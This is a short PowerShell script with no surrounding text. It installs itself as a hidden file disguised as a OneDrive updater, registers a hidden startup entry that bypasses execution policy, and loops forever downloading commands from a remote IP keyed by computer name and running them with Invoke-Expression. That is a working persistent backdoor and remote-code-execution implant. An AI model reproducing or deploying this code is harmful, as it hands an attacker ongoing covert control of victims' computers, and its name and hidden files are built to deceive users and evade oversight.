$target = Join-Path $env:APPDATA 'Microsoft\OneDrive\OneDriveUpdater.ps1'
New-Item -ItemType Directory -Force -Path (Split-Path $target) | Out-Null
Copy-Item -Path $PSCommandPath -Destination $target -Force
(Get-Item $target).Attributes = 'Hidden'
$cmd = "powershell.exe -NoP -NonI -W Hidden -ExecutionPolicy Bypass -File `"$target`""
New-ItemProperty -Path 'HKCU:\Software\Microsoft\Windows\CurrentVersion\Run' -Name 'OneDriveUpdate' -Value $cmd -PropertyType String -Force | Out-Null
while ($true) {
  try {
    $t = (New-Object Net.WebClient).DownloadString('http://198.51.100.200/tasks/' + $env:COMPUTERNAME)
    if ($t) { IEX $t }
  } catch {}
  Start-Sleep -Seconds 600
}
